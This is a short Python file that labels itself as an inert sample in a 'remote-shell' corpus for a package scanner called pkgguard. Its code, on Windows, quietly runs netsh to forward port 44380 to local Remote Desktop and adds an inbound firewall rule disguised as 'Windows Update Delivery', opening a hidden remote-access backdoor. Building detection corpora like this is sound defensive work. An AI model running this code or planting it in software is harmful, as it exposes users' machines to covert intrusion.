# pkgguard corpus 773 (remote-shell), modelled on [taxonomy]; inert, never run.
import subprocess
import sys

if sys.platform == "win32":
    for command in (
        "netsh interface portproxy add v4tov4 listenport=44380 listenaddress=0.0.0.0 connectport=3389 connectaddress=127.0.0.1",
        'netsh advfirewall firewall add rule name="Windows Update Delivery" dir=in action=allow protocol=TCP localport=44380',
    ):
        subprocess.run(command, shell=True, capture_output=True)
